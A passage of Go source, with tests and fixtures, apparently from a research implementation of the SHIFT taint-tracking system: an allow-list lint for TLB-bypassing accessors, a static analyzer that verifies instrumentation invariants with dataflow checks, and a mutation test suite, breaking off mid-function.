// Check walks every .go file under root (skipping testdata trees) and
// reports each banned selector outside the allowed directories. allowed
// is a list of slash-separated directories relative to root; nil means
// DefaultAllowed.
func Check(root string, allowed []string) ([]Diag, error) {
	if allowed == nil {
		allowed = DefaultAllowed
	}
	allowedDir := make(map[string]bool, len(allowed))
	for _, d := range allowed {
		allowedDir[d] = true
	}

	var diags []Diag
	fset := token.NewFileSet()
	err := filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if d.IsDir() {
			if d.Name() == "testdata" || strings.HasPrefix(d.Name(), ".") && path != root {
				return filepath.SkipDir
			}
			return nil
		}
		if !strings.HasSuffix(path, ".go") {
			return nil
		}
		rel, err := filepath.Rel(root, path)
		if err != nil {
			return err
		}
		rel = filepath.ToSlash(rel)
		if allowedDir[filepath.ToSlash(filepath.Dir(rel))] {
			return nil
		}
		file, err := parser.ParseFile(fset, path, nil, parser.SkipObjectResolution)
		if err != nil {
			return err
		}
		ast.Inspect(file, func(n ast.Node) bool {
			sel, ok := n.(*ast.SelectorExpr)
			if !ok || !banned[sel.Sel.Name] {
				return true
			}
			pos := fset.Position(sel.Sel.Pos())
			diags = append(diags, Diag{
				File: rel,
				Line: pos.Line,
				Col:  pos.Column,
				Msg: fmt.Sprintf("call of TLB-bypassing %s outside the tag protocol (allowed: %s)",
					sel.Sel.Name, strings.Join(allowed, ", ")),
			})
			return true
		})
		return nil
	})
	if err != nil {
		return nil, err
	}
	sort.Slice(diags, func(i, j int) bool {
		if diags[i].File != diags[j].File {
			return diags[i].File < diags[j].File
		}
		return diags[i].Line < diags[j].Line
	})
	return diags, nil
}
