// Package bench stands in for a package that must NOT bypass the TLB:
// both calls below are findings.
package bench

type memory interface {
	SharedPeek1(addr uint64) (byte, error)
	SharedWrite1(addr uint64, v byte) error
}

func sampleTag(m memory, tb uint64) byte {
	b, _ := m.SharedPeek1(tb) // want finding
	_ = m.SharedWrite1(tb, b) // want finding
	return b
}
