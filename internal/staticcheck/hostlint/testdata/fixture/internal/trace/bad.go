// Package trace stands in for the observability package: a hook might
// be tempted to sample tag bytes through the shared accessors, but it
// is NOT on the allow-list — observers must read through the plain
// (TLB-respecting) path or not at all.
package trace

type memory interface {
	SharedPeek1(addr uint64) (byte, error)
}

func sampleTagForEvent(m memory, tb uint64) byte {
	b, _ := m.SharedPeek1(tb) // want finding
	return b
}
