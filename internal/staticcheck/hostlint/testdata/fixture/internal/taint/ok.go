// Package taint stands in for the real internal/taint in the hostlint
// fixture: the shared accessors are allowed here.
package taint

type memory interface {
	SharedPeek1(addr uint64) (byte, error)
	SharedWrite1(addr uint64, v byte) error
}

func readTag(m memory, tb uint64) (byte, error) {
	return m.SharedPeek1(tb)
}

func writeTag(m memory, tb uint64, v byte) error {
	return m.SharedWrite1(tb, v)
}
