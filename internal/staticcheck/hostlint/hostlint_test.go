package hostlint

import (
	"path/filepath"
	"strings"
	"testing"
)

// The fixture holds a fake allowed package (internal/taint) and two
// fake offenders: internal/bench (two calls) and internal/trace (an
// observability hook sampling tags — observers are deliberately NOT on
// the allow-list). Only the offenders' three calls surface.
func TestFixture(t *testing.T) {
	diags, err := Check(filepath.Join("testdata", "fixture"), nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(diags) != 3 {
		t.Fatalf("got %d diagnostics, want 3: %v", len(diags), diags)
	}
	byFile := map[string]int{}
	for _, d := range diags {
		byFile[d.File]++
		if !strings.Contains(d.Msg, "Shared") {
			t.Errorf("message lacks accessor name: %s", d.Msg)
		}
	}
	if byFile["internal/bench/bad.go"] != 2 || byFile["internal/trace/bad.go"] != 1 {
		t.Errorf("diagnostics per file = %v, want bench:2 trace:1", byFile)
	}
	if diags[0].Line != 11 || diags[1].Line != 12 {
		t.Errorf("bench lines %d,%d, want 11,12", diags[0].Line, diags[1].Line)
	}
}

// The real repository is the baseline: the only production calls live
// in internal/taint, so the checker must come back clean at the module
// root. Any new TLB bypass elsewhere fails this test (and CI).
func TestRepositoryClean(t *testing.T) {
	root := filepath.Join("..", "..", "..")
	diags, err := Check(root, nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, d := range diags {
		t.Errorf("%s", d.String())
	}
}

// An empty allow-list turns the taint fixture package into an offender
// too — the allow-list, not a hard-coded path, decides.
func TestAllowListHonoured(t *testing.T) {
	diags, err := Check(filepath.Join("testdata", "fixture"), []string{"internal/bench"})
	if err != nil {
		t.Fatal(err)
	}
	for _, d := range diags {
		if d.File != "internal/taint/ok.go" && d.File != "internal/trace/bad.go" {
			t.Errorf("diagnostic in %s, want internal/taint/ok.go or internal/trace/bad.go", d.File)
		}
	}
	if len(diags) != 3 {
		t.Errorf("got %d diagnostics, want 3: %v", len(diags), diags)
	}
}
