package staticcheck_test

import (
	"testing"

	"shift/internal/codegen"
	"shift/internal/instrument"
	"shift/internal/isa"
	"shift/internal/lang"
	"shift/internal/staticcheck"
	"shift/internal/taint"
)

// The mutation suite proves the checker has teeth: each subtest breaks
// one emit rule of the instrumentation pass in a freshly instrumented
// program and demands the matching invariant fires. The unmutated
// output lints clean by construction (instrument.Apply gates on the
// checker), so every finding below is caused by the mutation alone.

func compileMinic(t *testing.T, src string) *isa.Program {
	t.Helper()
	f, err := lang.Parse("mut.mc", src)
	if err != nil {
		t.Fatal(err)
	}
	u, err := lang.Check(f)
	if err != nil {
		t.Fatal(err)
	}
	p, err := codegen.Compile(u)
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// mutBase exercises every emit rule: narrow and 8-byte stores, loads,
// a dirty compare (relaxation), and a call with values live across it
// (UNAT save/restore traffic).
const mutBase = `
int data[64];
int helper(int x) { return x * 2 + data[x & 63]; }
void main() {
	char buf[32];
	int n = recv(buf, 32);
	int i;
	int s = 0;
	for (i = 0; i < n; i++) {
		data[i & 63] = buf[i & 31];
		s = s + helper(data[i & 63]);
	}
	exit(s & 1);
}
`

// nopFirst replaces the first instruction matching pred with a nop of
// the same cost class, reporting whether a site was found.
func nopFirst(pred func(*isa.Instruction) bool) func(*isa.Program) bool {
	return func(p *isa.Program) bool {
		for i := range p.Text {
			if pred(&p.Text[i]) {
				p.Text[i] = isa.Instruction{Op: isa.OpNop, Class: p.Text[i].Class, ABI: p.Text[i].ABI}
				return true
			}
		}
		return false
	}
}

func TestMutationsAreCaught(t *testing.T) {
	tests := []struct {
		name   string
		mutate func(*isa.Program) bool
		want   string
	}{
		{
			// Figure 5 store rule: drop the tag-bitmap write.
			name: "drop-tag-store",
			mutate: nopFirst(func(ins *isa.Instruction) bool {
				return ins.Class == isa.ClassStoreTagMem && ins.Op == isa.OpSt
			}),
			want: staticcheck.InvStoreTagUpdate,
		},
		{
			// §4.4 scheduling rule: pretend an original instruction was
			// scheduled between a store and its tag update, ending the
			// non-preemptible region early.
			name: "break-store-region",
			mutate: func(p *isa.Program) bool {
				for i := range p.Text {
					ins := &p.Text[i]
					if ins.Class == isa.ClassOrig && !ins.ABI &&
						(ins.Op == isa.OpSt || ins.Op == isa.OpStSpill) && i+1 < len(p.Text) {
						p.Text[i+1].Class = isa.ClassOrig
						return true
					}
				}
				return false
			},
			want: staticcheck.InvStoreTagUpdate,
		},
		{
			// §4.1 relaxation: drop the plain reload that strips the NaT
			// from the compared copy.
			name: "drop-clean-reload",
			mutate: nopFirst(func(ins *isa.Instruction) bool {
				return ins.Class == isa.ClassRelax && ins.Op == isa.OpLd && ins.Qp != 0
			}),
			want: staticcheck.InvCleanBeforeCmp,
		},
		{
			// Figure 5 load rule: drop the conditional tainting of the
			// loaded destination.
			name: "drop-taint-apply",
			mutate: nopFirst(func(ins *isa.Instruction) bool {
				return ins.Class == isa.ClassNatGen && ins.Op == isa.OpAdd &&
					ins.Qp != 0 && ins.Src2 == isa.RegNaT
			}),
			want: staticcheck.InvLoadTagConsult,
		},
		{
			// §4.3 keep-live rule: drop the NaT-source generation at the
			// program entry; every tainting site now consumes an
			// uninitialised r127.
			name: "drop-nat-gen",
			mutate: nopFirst(func(ins *isa.Instruction) bool {
				return ins.Op == isa.OpLdS && ins.Dest == isa.RegNaT
			}),
			want: staticcheck.InvNaTSourceLive,
		},
		{
			// §4.3 spill/fill rule: drop every UNAT restore; fills after a
			// call can no longer prove their bit was defined.
			name: "drop-unat-restore",
			mutate: func(p *isa.Program) bool {
				found := false
				for i := range p.Text {
					if p.Text[i].Op == isa.OpMovToUnat {
						p.Text[i] = isa.Instruction{Op: isa.OpNop, Class: p.Text[i].Class, ABI: p.Text[i].ABI}
						found = true
					}
				}
				return found
			},
			want: staticcheck.InvUnatPairing,
		},
		{
			// Figure 5 load rule: drop the tag-bitmap read itself.
			name: "drop-tag-consult",
			mutate: nopFirst(func(ins *isa.Instruction) bool {
				return ins.Class == isa.ClassLoadTagMem && ins.Op == isa.OpLd
			}),
			want: staticcheck.InvLoadTagConsult,
		},
	}

	base := compileMinic(t, mutBase)
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			out, err := instrument.Apply(base, instrument.Options{Gran: taint.Byte})
			if err != nil {
				t.Fatal(err)
			}
			if fs := staticcheck.Check(out); len(fs) != 0 {
				t.Fatalf("unmutated program not clean:\n%s", list(fs))
			}
			if !tc.mutate(out) {
				t.Fatal("mutation found no site to break")
			}
			fs := staticcheck.Check(out)
			if !has(fs, tc.want) {
				t.Errorf("mutant not caught: want %s, got:\n%s", tc.want, list(fs))
			}
		})
	}
}

// The atomic-exchange commit test must be a *predicated* branch: made
// unconditional, every path skips the tag update (stale tags on a
// committed exchange — exactly the §4.4 gap the pass closes).
func TestMutationCmpxchgSkipCaught(t *testing.T) {
	p := assemble(t, `
.data
cell: .word8 0
.text
.entry main
main:
	movl r1 = cell
	mov ccv = r0
	movl r2 = 1
	cmpxchg8 r3 = [r1], r2
	movl r32 = 0
	syscall 1
`)
	out, err := instrument.Apply(p, instrument.Options{Gran: taint.Byte})
	if err != nil {
		t.Fatal(err)
	}
	if fs := staticcheck.Check(out); len(fs) != 0 {
		t.Fatalf("unmutated program not clean:\n%s", list(fs))
	}
	found := false
	for i := range out.Text {
		if out.Text[i].Op == isa.OpBr && out.Text[i].Label == ".shift.xchg.1" {
			out.Text[i].Qp = 0
			found = true
		}
	}
	if !found {
		t.Fatal("no commit-test branch in instrumented output")
	}
	if fs := staticcheck.Check(out); !has(fs, staticcheck.InvStoreTagUpdate) {
		t.Errorf("unconditional commit skip not caught:\n%s", list(fs))
	}
}
