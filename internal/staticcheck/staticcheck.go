// Package staticcheck verifies the structural contract of SHIFT
// instrumentation over a whole program, statically. Where the lockstep
// oracle (internal/oracle) catches a propagation bug only when an
// execution reaches it, this analyzer walks a basic-block control-flow
// graph and a forward dataflow fixpoint over every path of the
// instrumented instruction stream, proving shape properties of the
// paper's pass:
//
//   - store-tag-update: every original store (st, st8.spill, and the
//     commit path of cmpxchg) is paired with a tag-bitmap write inside
//     the same non-preemptible region — no original-program instruction
//     interleaves, matching the tag-coherent scheduling rule (§4.4).
//   - load-tag-consult: every original load reads the tag bitmap and
//     conditionally taints its destination within its region (Figure 5).
//   - clean-before-compare: no NaT-sensitive compare (cmp/cmpi without
//     the cmp.na enhancement) can observe a possibly-NaT operand; the
//     relaxation sequence (§4.1) must dominate it.
//   - spec-load-consumed: every speculative load has a reachable check
//     (chk.s) or taint-consumption point; a ld.s whose NaT token nothing
//     ever reads is dead weight (§4.3).
//   - unat-pairing: every ld8.fill restores a UNAT bit that a st8.spill
//     (or mov unat=) has defined along all paths (§4.3).
//   - nat-source-live: reserved instrumentation registers (r119..r127)
//     are written before use on every path from the program entry — in
//     particular the keep-live NaT source exists before its first use.
//
// The analyzer is deliberately lenient where the machine's dynamic
// semantics guarantee safety (a plain load clears its destination's NaT;
// a non-speculative memory access proves its address register clean on
// the fallthrough), so legitimately instrumented programs lint clean
// while each broken emit rule is flagged — the mutation suite in this
// package holds both directions.
package staticcheck

import (
	"fmt"
	"sort"

	"shift/internal/isa"
)

// Invariant identifiers, stable for machine consumption.
const (
	InvStoreTagUpdate   = "store-tag-update"
	InvLoadTagConsult   = "load-tag-consult"
	InvCleanBeforeCmp   = "clean-before-compare"
	InvSpecLoadConsumed = "spec-load-consumed"
	InvUnatPairing      = "unat-pairing"
	InvNaTSourceLive    = "nat-source-live"
)

// Finding is one violation of the instrumentation contract.
type Finding struct {
	PC        int    `json:"pc"`        // instruction index in Program.Text
	Invariant string `json:"invariant"` // stable identifier (Inv* constants)
	Sym       string `json:"sym"`       // nearest enclosing label, if any
	Ins       string `json:"ins"`       // disassembled instruction
	Msg       string `json:"msg"`       // human-readable explanation
}

// String renders the finding as "pc N (sym): invariant: msg [ins]".
func (f Finding) String() string {
	loc := fmt.Sprintf("pc %d", f.PC)
	if f.Sym != "" {
		loc += " (" + f.Sym + ")"
	}
	return fmt.Sprintf("%s: %s: %s [%s]", loc, f.Invariant, f.Msg, f.Ins)
}

type checker struct {
	prog       *isa.Program
	g          *Graph
	in         []state
	reach      []bool
	cleanWrite []bool
	exempt     map[int]bool
	findings   []Finding
}

// Check analyzes prog and returns every contract violation, ordered by
// program counter. A program that was never instrumented reports a
// finding for each unpaired load, store and NaT-sensitive compare — the
// analyzer checks the contract, not whether instrumentation was wanted.
func Check(prog *isa.Program) []Finding {
	return CheckSelective(prog, nil)
}

// CheckSelective is the reachability-refined lint mode used by selective
// instrumentation (instrument.Options.Selective): exempt holds the
// output program counters of sites the whole-program taint-reachability
// analysis proved may never touch taint, so the pass deliberately left
// them in their original encoding. Site-shape findings
// (store-tag-update, load-tag-consult, clean-before-compare) at exempt
// pcs are suppressed; every other invariant still applies everywhere —
// an exemption never excuses a broken emit sequence, only a missing one.
func CheckSelective(prog *isa.Program, exempt map[int]bool) []Finding {
	c := &checker{prog: prog, g: BuildGraph(prog), exempt: exempt}
	c.cleanWrites()
	c.solve()
	c.checkRegions()
	c.checkDataflow()
	c.checkSpecLoads()
	return dedupSort(c.findings)
}

// dedupSort orders findings fully deterministically — by pc, then
// invariant, then message — and drops identical duplicates emitted from
// multiple analysis paths.
func dedupSort(findings []Finding) []Finding {
	sort.SliceStable(findings, func(i, j int) bool {
		if findings[i].PC != findings[j].PC {
			return findings[i].PC < findings[j].PC
		}
		if findings[i].Invariant != findings[j].Invariant {
			return findings[i].Invariant < findings[j].Invariant
		}
		return findings[i].Msg < findings[j].Msg
	})
	out := findings[:0]
	for _, f := range findings {
		if n := len(out); n > 0 && out[n-1].PC == f.PC &&
			out[n-1].Invariant == f.Invariant && out[n-1].Msg == f.Msg {
			continue
		}
		out = append(out, f)
	}
	return out
}

// siteExemptible reports the invariants a reachability exemption may
// suppress: the "this original site was not rewritten" shapes.
func siteExemptible(inv string) bool {
	switch inv {
	case InvStoreTagUpdate, InvLoadTagConsult, InvCleanBeforeCmp:
		return true
	}
	return false
}

func (c *checker) report(pc int, inv, msg string) {
	if c.exempt != nil && c.exempt[pc] && siteExemptible(inv) {
		return
	}
	c.findings = append(c.findings, Finding{
		PC:        pc,
		Invariant: inv,
		Sym:       c.g.SymFor(pc),
		Ins:       c.prog.Text[pc].String(),
		Msg:       msg,
	})
}

// ---------------------------------------------------------------------
// Region checks (store-tag-update, load-tag-consult).
//
// A non-preemptible region is a maximal run of instrumentation-class
// instructions following an original one: the scheduler may only end a
// time slice at an original (ClassOrig) instruction, so the pairing of
// a data access with its tag traffic must complete before the next
// original instruction — and before anything that leaves the region
// outright (call, return, indirect branch, syscall, chk.s).

func isTagWrite(ins *isa.Instruction) bool {
	return ins.Class == isa.ClassStoreTagMem &&
		(ins.Op == isa.OpSt || ins.Op == isa.OpCmpxchg)
}

func isTagConsult(ins *isa.Instruction) bool {
	return ins.Class == isa.ClassLoadTagMem && ins.Op == isa.OpLd
}

// taintApply recognises the Figure 5 destination-tainting instruction
// for register d: a predicated setnat, or a predicated add through the
// NaT-source register.
func taintApply(ins *isa.Instruction, d uint8) bool {
	if ins.Qp == 0 || ins.Dest != d {
		return false
	}
	switch ins.Op {
	case isa.OpSetNat:
		return true
	case isa.OpAdd:
		return ins.Src1 == isa.RegNaT || ins.Src2 == isa.RegNaT
	}
	return false
}

// leavesRegion reports ops that end the non-preemptible region no
// matter their cost class.
func leavesRegion(ins *isa.Instruction) bool {
	switch ins.Op {
	case isa.OpBrCall, isa.OpBrRet, isa.OpBrInd, isa.OpSyscall, isa.OpChkS:
		return true
	}
	return false
}

const (
	walkVisiting int8 = 1
	walkTrue     int8 = 2
	walkFalse    int8 = 3
)

// regionAll reports whether every complete path from the successors of
// pc hits an instruction satisfying hit before the region ends. An
// in-region cycle (the serialized-tag retry loop) counts as satisfied:
// the only exits of such a loop are checked on their own paths.
func (c *checker) regionAll(pc int, hit func(*isa.Instruction) bool) bool {
	memo := make(map[int]int8)
	var walk func(int) bool
	walk = func(i int) bool {
		switch memo[i] {
		case walkVisiting, walkTrue:
			return true
		case walkFalse:
			return false
		}
		ins := &c.prog.Text[i]
		if hit(ins) {
			memo[i] = walkTrue
			return true
		}
		if ins.Class == isa.ClassOrig || leavesRegion(ins) || len(c.g.Succ[i]) == 0 {
			memo[i] = walkFalse
			return false
		}
		memo[i] = walkVisiting
		ok := true
		for _, e := range c.g.Succ[i] {
			if !walk(e.To) {
				ok = false
				break
			}
		}
		if ok {
			memo[i] = walkTrue
		} else {
			memo[i] = walkFalse
		}
		return ok
	}
	if len(c.g.Succ[pc]) == 0 {
		return false
	}
	for _, e := range c.g.Succ[pc] {
		if !walk(e.To) {
			return false
		}
	}
	return true
}

// regionExists reports whether some path from pc's successors hits an
// instruction satisfying hit before the region ends.
func (c *checker) regionExists(pc int, hit func(*isa.Instruction) bool) bool {
	memo := make(map[int]bool)
	var walk func(int) bool
	walk = func(i int) bool {
		if done, ok := memo[i]; ok {
			return done
		}
		memo[i] = false // break cycles pessimistically
		ins := &c.prog.Text[i]
		if hit(ins) {
			memo[i] = true
			return true
		}
		if ins.Class == isa.ClassOrig || leavesRegion(ins) {
			return false
		}
		for _, e := range c.g.Succ[i] {
			if walk(e.To) {
				memo[i] = true
				return true
			}
		}
		return false
	}
	for _, e := range c.g.Succ[pc] {
		if walk(e.To) {
			return true
		}
	}
	return false
}

// regionAllOrBypass reports whether every complete path from pc either
// hits the tag write or has crossed the taken edge of a *predicated*
// branch — the legitimate commit-test skip of a failed cmpxchg. An
// unconditional skip (or a fallthrough that never updates the bitmap)
// fails.
func (c *checker) regionAllOrBypass(pc int) bool {
	type key struct {
		i   int
		byp bool
	}
	memo := make(map[key]int8)
	var walk func(int, bool) bool
	walk = func(i int, byp bool) bool {
		k := key{i, byp}
		switch memo[k] {
		case walkVisiting, walkTrue:
			return true
		case walkFalse:
			return false
		}
		ins := &c.prog.Text[i]
		if isTagWrite(ins) {
			memo[k] = walkTrue
			return true
		}
		if ins.Class == isa.ClassOrig || leavesRegion(ins) || len(c.g.Succ[i]) == 0 {
			if byp {
				memo[k] = walkTrue
			} else {
				memo[k] = walkFalse
			}
			return byp
		}
		memo[k] = walkVisiting
		ok := true
		for _, e := range c.g.Succ[i] {
			nb := byp || (e.Kind == EdgeJump && ins.Qp != 0)
			if !walk(e.To, nb) {
				ok = false
				break
			}
		}
		if ok {
			memo[k] = walkTrue
		} else {
			memo[k] = walkFalse
		}
		return ok
	}
	for _, e := range c.g.Succ[pc] {
		if !walk(e.To, false) {
			return false
		}
	}
	return true
}

func (c *checker) checkRegions() {
	for pc := range c.prog.Text {
		ins := &c.prog.Text[pc]
		if ins.Class != isa.ClassOrig || ins.ABI {
			continue
		}
		switch ins.Op {
		case isa.OpSt, isa.OpStSpill:
			if !c.regionAll(pc, isTagWrite) {
				c.report(pc, InvStoreTagUpdate,
					"store is not followed by a tag-bitmap write in its non-preemptible region")
			}
		case isa.OpCmpxchg:
			if !c.regionExists(pc, isTagWrite) {
				c.report(pc, InvStoreTagUpdate,
					"atomic exchange has no committed-path tag-bitmap write in its region")
			} else if !c.regionAllOrBypass(pc) {
				c.report(pc, InvStoreTagUpdate,
					"atomic exchange can skip its tag-bitmap write without a predicated commit test")
			}
		case isa.OpLd, isa.OpLdFill:
			if !c.regionAll(pc, isTagConsult) {
				c.report(pc, InvLoadTagConsult,
					"load is not followed by a tag-bitmap read in its non-preemptible region")
			} else if d := ins.Dest; !c.regionAll(pc, func(i *isa.Instruction) bool { return taintApply(i, d) }) {
				c.report(pc, InvLoadTagConsult,
					"load's destination is never conditionally tainted from the tag bit")
			}
		}
	}
}

// ---------------------------------------------------------------------
// Dataflow checks (clean-before-compare, unat-pairing, nat-source-live).

func (c *checker) checkDataflow() {
	for pc := range c.prog.Text {
		if !c.reach[pc] || !c.in[pc].live {
			continue
		}
		ins := &c.prog.Text[pc]
		st := c.in[pc]

		switch ins.Op {
		case isa.OpCmp:
			if st.nat.Has(ins.Src1) || st.nat.Has(ins.Src2) {
				c.report(pc, InvCleanBeforeCmp,
					"NaT-sensitive compare may observe a tainted operand; relaxation sequence missing")
			}
		case isa.OpCmpi:
			if st.nat.Has(ins.Src1) {
				c.report(pc, InvCleanBeforeCmp,
					"NaT-sensitive compare may observe a tainted operand; relaxation sequence missing")
			}
		case isa.OpLdFill:
			if st.unat>>uint(ins.Imm&63)&1 == 0 {
				c.report(pc, InvUnatPairing,
					fmt.Sprintf("ld8.fill restores UNAT bit %d that no st8.spill defined on all paths", ins.Imm))
			}
		}

		// Reads of reserved instrumentation registers must be dominated
		// by a write: in particular, consuming the NaT source before
		// (or without) its keep-live generation is a silent taint drop.
		checkRead := func(r uint8) {
			if r >= isa.RegKeep && !st.init.Has(r) {
				c.report(pc, InvNaTSourceLive,
					fmt.Sprintf("reserved register r%d read with no dominating write (keep-live NaT source missing?)", r))
			}
		}
		if ins.Op.ReadsSrc1() {
			checkRead(ins.Src1)
		}
		if ins.Op.ReadsSrc2() {
			checkRead(ins.Src2)
		}
		if ins.Op == isa.OpSetNat || ins.Op == isa.OpClrNat {
			checkRead(ins.Dest) // value-preserving: reads the destination
		}
	}
}

// ---------------------------------------------------------------------
// Speculative-load consumption (spec-load-consumed).

// readsReg reports whether ins consumes register d.
func readsReg(ins *isa.Instruction, d uint8) bool {
	if ins.Op.ReadsSrc1() && ins.Src1 == d {
		return true
	}
	if ins.Op.ReadsSrc2() && ins.Src2 == d {
		return true
	}
	if (ins.Op == isa.OpSetNat || ins.Op == isa.OpClrNat) && ins.Dest == d {
		return true
	}
	return false
}

func (c *checker) checkSpecLoads() {
	// The NaT-source register is program-global by contract (it stays
	// live across calls and spawns), so its generators are judged
	// globally: dead only if nothing in the whole program reads r127.
	natConsumed := false
	for pc := range c.prog.Text {
		if readsReg(&c.prog.Text[pc], isa.RegNaT) {
			natConsumed = true
			break
		}
	}

	for pc := range c.prog.Text {
		ins := &c.prog.Text[pc]
		if ins.Op != isa.OpLdS {
			continue
		}
		if ins.Dest == isa.RegNaT {
			if !natConsumed {
				c.report(pc, InvSpecLoadConsumed,
					"NaT-source generation is dead: nothing in the program consumes r127")
			}
			continue
		}
		if !c.reach[pc] {
			continue
		}
		if !c.useReached(pc, ins.Dest) {
			c.report(pc, InvSpecLoadConsumed,
				fmt.Sprintf("speculative load's r%d has no reachable chk.s or consumption before being overwritten", ins.Dest))
		}
	}
}

// useReached reports whether some path from pc's successors reads d
// before overwriting it.
func (c *checker) useReached(pc int, d uint8) bool {
	memo := make(map[int]bool)
	var walk func(int) bool
	walk = func(i int) bool {
		if done, ok := memo[i]; ok {
			return done
		}
		memo[i] = false
		ins := &c.prog.Text[i]
		if readsReg(ins, d) {
			memo[i] = true
			return true
		}
		if ins.Op.HasDest() && ins.Dest == d {
			return false
		}
		for _, e := range c.g.Succ[i] {
			if walk(e.To) {
				memo[i] = true
				return true
			}
		}
		return false
	}
	for _, e := range c.g.Succ[pc] {
		if walk(e.To) {
			return true
		}
	}
	return false
}
