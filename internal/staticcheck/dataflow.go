package staticcheck

import "shift/internal/isa"

// RegSet is a bit set over the 128 general registers.
type RegSet [2]uint64

func (s *RegSet) Set(r uint8)     { s[r>>6] |= 1 << (r & 63) }
func (s *RegSet) Clear(r uint8)   { s[r>>6] &^= 1 << (r & 63) }
func (s RegSet) Has(r uint8) bool { return s[r>>6]>>(r&63)&1 != 0 }
func (s RegSet) Or(o RegSet) RegSet {
	return RegSet{s[0] | o[0], s[1] | o[1]}
}
func (s RegSet) And(o RegSet) RegSet {
	return RegSet{s[0] & o[0], s[1] & o[1]}
}

var allRegs = RegSet{^uint64(0), ^uint64(0)}

// state is the forward dataflow fact at an instruction: which registers
// may carry NaT, which have definitely been written on every path, and
// which UNAT bits hold a definitely-saved NaT.
type state struct {
	live bool
	nat  RegSet // may carry NaT
	init RegSet // written on all paths
	unat uint64 // UNAT bits saved by a spill (or mov unat=) on all paths
}

// meet joins two states: may-NaT unions, must-init and must-unat
// intersect.
func meet(a, b state) state {
	if !a.live {
		return b
	}
	if !b.live {
		return a
	}
	return state{
		live: true,
		nat:  a.nat.Or(b.nat),
		init: a.init.And(b.init),
		unat: a.unat & b.unat,
	}
}

// entryState is the machine-reset state at the program entry: every
// register holds a clean zero, but the reserved instrumentation
// registers (r119..r127) have not yet been given their contract values.
func entryState() state {
	s := state{live: true, init: allRegs}
	for r := isa.RegKeep; r < isa.NumGR; r++ {
		s.init.Clear(uint8(r))
	}
	return s
}

// rootState is the conservative state at a function entry reached by a
// call or a thread spawn: any register may carry NaT except r0 and the
// kept OffsetMask register (only ever written by movl), everything is
// considered written (spawned threads inherit r119/r127 from thread 0),
// and no UNAT bit is trusted.
func rootState() state {
	s := state{live: true, nat: allRegs, init: allRegs}
	s.nat.Clear(isa.RegZero)
	s.nat.Clear(isa.RegKeep)
	return s
}

// natEffect classifies how an opcode's destination NaT bit derives from
// its inputs.
type natEffect uint8

const (
	natClean natEffect = iota // destination never NaT
	natMaybe                  // destination may be NaT regardless of inputs
	natProp1                  // propagates from Src1
	natProp2                  // propagates from Src1 | Src2
)

func natOf(ins *isa.Instruction) natEffect {
	switch ins.Op {
	case isa.OpMovl, isa.OpLd, isa.OpCmpxchg, isa.OpMovFromBr,
		isa.OpMovFromUnat, isa.OpMovFromCcv, isa.OpClrNat:
		return natClean
	case isa.OpLdS, isa.OpLdFill, isa.OpSetNat:
		return natMaybe
	case isa.OpMov, isa.OpAddi, isa.OpAndi, isa.OpOri, isa.OpXori,
		isa.OpShli, isa.OpShri, isa.OpSari:
		return natProp1
	case isa.OpAdd, isa.OpSub, isa.OpAnd, isa.OpAndcm, isa.OpOr, isa.OpXor,
		isa.OpShl, isa.OpShr, isa.OpSar, isa.OpMul, isa.OpDiv, isa.OpRem:
		// The xor/sub self-idioms produce a clean zero (§3.2).
		if ins.Src1 == ins.Src2 && (ins.Op == isa.OpXor || ins.Op == isa.OpSub) {
			return natClean
		}
		return natProp2
	}
	return natMaybe
}

// cleanWrites recognises the block-local tnat-guarded clean idiom from
// the instrumentation pass (§4.1 "Setting and Clearing NaT-bit"):
//
//	tnat pT, pF = rX        ; pT <=> NaT(rX)
//	mov  rC = rX            ; (optional copy; NaT equality preserved)
//	(pT) ... clean write to rC ...
//
// A predicated write whose result is clean and whose qualifying
// predicate is true exactly when the destination was NaT leaves the
// destination clean on both predicate outcomes. The recognition is
// purely syntactic, so it is computed once, before the fixpoint.
func (c *checker) cleanWrites() {
	p := c.prog
	n := len(p.Text)
	c.cleanWrite = make([]bool, n)

	// Linear-scan boundaries: any point control can enter other than by
	// fallthrough invalidates the predicate facts.
	leader := make([]bool, n+1)
	leader[0] = true
	if p.Entry >= 0 && p.Entry < n {
		leader[p.Entry] = true
	}
	for _, idx := range p.Symbols {
		if idx >= 0 && idx <= n {
			leader[idx] = true
		}
	}
	for i := 0; i < n; i++ {
		ins := &p.Text[i]
		if ins.Op.IsBranch() && ins.Op != isa.OpBrRet && ins.Op != isa.OpBrInd {
			if t, ok := TargetOf(p, ins); ok {
				leader[t] = true
			}
		}
	}

	// guards[p] is the set of registers whose NaT bit is known equal to
	// predicate p.
	var guards [isa.NumPR]RegSet
	resetGuards := func() {
		for i := range guards {
			guards[i] = RegSet{}
		}
	}
	dropReg := func(r uint8) {
		for i := range guards {
			guards[i].Clear(r)
		}
	}

	for i := 0; i < n; i++ {
		if leader[i] {
			resetGuards()
		}
		ins := &p.Text[i]

		if ins.Qp != 0 && ins.Op.HasDest() && natOf(ins) == natClean &&
			guards[ins.Qp].Has(ins.Dest) {
			c.cleanWrite[i] = true
		}

		switch {
		case ins.Op == isa.OpTnat:
			guards[ins.P1] = RegSet{}
			guards[ins.P2] = RegSet{}
			if ins.Qp == 0 {
				guards[ins.P1].Set(ins.Src1)
			}
		case ins.Op.IsCompare():
			guards[ins.P1] = RegSet{}
			guards[ins.P2] = RegSet{}
		case ins.Op == isa.OpBrCall || ins.Op == isa.OpSyscall:
			// The callee (or OS model) may write any predicate.
			resetGuards()
		case ins.Op == isa.OpMov && ins.Qp == 0:
			src := ins.Src1
			var carry [isa.NumPR]bool
			for pr := range guards {
				carry[pr] = guards[pr].Has(src)
			}
			dropReg(ins.Dest)
			for pr := range guards {
				if carry[pr] {
					guards[pr].Set(ins.Dest)
				}
			}
		default:
			if ins.Op.HasDest() {
				dropReg(ins.Dest)
			}
		}
	}
}

// transfer computes the state after executing one instruction.
func (c *checker) transfer(pc int, in state) state {
	ins := &c.prog.Text[pc]
	out := in

	// Non-speculative memory accesses and moves to special registers
	// fault on a NaT input; code past them sees the register clean.
	if ins.Qp == 0 {
		switch ins.Op {
		case isa.OpLd:
			out.nat.Clear(ins.Src1)
		case isa.OpSt, isa.OpCmpxchg:
			out.nat.Clear(ins.Src1)
			out.nat.Clear(ins.Src2)
		case isa.OpStSpill, isa.OpLdFill:
			out.nat.Clear(ins.Src1)
